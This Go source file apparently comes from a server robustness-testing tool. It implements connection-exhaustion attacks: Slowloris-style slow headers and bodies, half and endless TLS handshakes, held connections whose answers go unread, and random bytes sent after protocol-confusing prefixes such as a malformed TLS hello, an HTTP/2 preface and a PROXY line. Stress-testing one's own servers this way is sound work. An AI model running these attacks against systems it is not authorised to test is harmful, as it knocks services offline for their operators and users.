// SPDX-License-Identifier: Apache-2.0
// Copyright The Tulle Authors.

package attack

import (
	"context"
	"crypto/tls"
	"io"
	"math/rand/v2"
	"net"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// TCP are the attacks on any port, whatever it speaks.
func TCP() []Attack {
	return []Attack{
		{"garbage", true, garbage},
		{"half handshakes", true, halfHandshakes},
		{"handshakes that do not end", false, endlessHandshakes},
	}
}

// HTTP1 are the attacks on a port that speaks HTTP/1.1.
func HTTP1() []Attack {
	return []Attack{
		{"connections", false, connections},
		{"slow headers", false, slow("GET / HTTP/1.1\r\nHost: "+host+"\r\n", "X-A: v\r\n")},
		{"slow bodies", false, slow("POST "+upload+" HTTP/1.1\r\nHost: "+host+"\r\nContent-Length: 1000000\r\n\r\n", "v")},
	}
}

// unread is how long a client waits that does not read, and so does not learn that it was closed.
const unread = 20 * time.Second

// connections says nothing, half a request, or a request whose answer nobody reads.
func connections(ctx context.Context, to Target) {
	to.keep(ctx, to.Held, to.http1, func(ctx context.Context, i int, c net.Conn) {
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		switch i % 3 {
		case 1:
			_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: "+host+"\r\nX-Long: "+strings.Repeat("v", 30000))
		case 2:
			_, _ = io.WriteString(c, "GET "+large+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
			pause(ctx, unread)
			return
		}
		drain(c)
	})
}

// slow sends a beginning, and a little more each second.
func slow(first, more string) func(context.Context, Target) {
	return func(ctx context.Context, to Target) {
		to.keep(ctx, to.Held, to.http1, func(ctx context.Context, _ int, c net.Conn) {
			ended := make(chan struct{})
			go func() {
				defer close(ended)
				drain(c)
			}()
			tick := time.NewTicker(time.Second)
			defer tick.Stop()
			for next := first; ; next = more {
				_ = c.SetWriteDeadline(time.Now().Add(writeTimeout))
				if _, err := io.WriteString(c, next); err != nil {
					return
				}
				select {
				case <-ctx.Done():
					return
				case <-ended:
					return
				case <-tick.C:
				}
			}
		})
	}
}

// beginnings make a server take what follows for one protocol or the other.
var beginnings = []string{
	"",
	"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03", // a hello of TLS, as long as a record may be
	"\x16\x03\x03\x00\x05",
	"\x17\x03\x03\x40\x00",
	http2.ClientPreface,
	"GET / HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: -1\r\n",
	"POST " + upload + " HTTP/1.1\r\nHost: " + host + "\r\nTransfer-Encoding: chunked\r\n\r\n",
	"GET ",
	"PROXY TCP4 198.51.100.1 198.51.100.2 1 2\r\n",
	"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c",
}

// garbage sends random bytes, most of them after a beginning that is none.
func garbage(ctx context.Context, to Target) {
	to.keep(ctx, to.Connections, to.Dial, func(ctx context.Context, i int, c net.Conn) {
		r := rand.New(rand.NewPCG(uint64(i), uint64(time.Now().UnixNano()))) //nolint:gosec // of no secret
		b := []byte(beginnings[r.IntN(len(beginnings))])
		for range r.IntN(16 << 10) {
			b = append(b, byte(r.Uint32()))
		}
		if to.send(ctx, costConnection) != nil {
			return
		}
		_ = c.SetDeadline(time.Now().Add(200 * time.Millisecond))
		_, _ = c.Write(b)
		drain(c)
	})
}

// client is that of an attacker: it takes any certificate, and has none.
func client(protocols ...string) *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, ServerName: host, NextProtos: protocols} //nolint:gosec // an attacker's
}

// hello returns the first message of a handshake.
func hello() []byte {
	near, far := net.Pipe()
	go func() {
		_ = tls.Client(near, client("h2", "http/1.1")).Handshake() // ends when far is closed
	}()
	b := make([]byte, 16<<10)
	n, _ := far.Read(b)
	far.Close()
	return slices.Clone(b[:n])
}

// halfHandshakes makes a server sign and then leaves, or leaves without a certificate at the end.
func halfHandshakes(ctx context.Context, to Target) {
	first := hello()
	to.keep(ctx, to.Connections, to.Dial, func(ctx context.Context, i int, c net.Conn) {
		if to.send(ctx, costConnection) != nil {
			return
		}
		_ = c.SetDeadline(time.Now().Add(time.Second))
		if i%2 == 0 {
			_ = tls.Client(c, client("h2", "http/1.1")).HandshakeContext(ctx)
			return
		}
		if _, err := c.Write(first); err == nil {
			_, _ = c.Read(make([]byte, 1))
		}
	})
}

// endlessHandshakes sends a hello, or some of it, and waits.
func endlessHandshakes(ctx context.Context, to Target) {
	first := hello()
	to.keep(ctx, to.Held, to.Dial, func(_ context.Context, i int, c net.Conn) {
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		_, _ = c.Write(first[:len(first)*(i%4+1)/4])
		drain(c)
	})
}

// drain reads until the connection ends.
func drain(c net.Conn) { _, _ = io.Copy(io.Discard, c) }
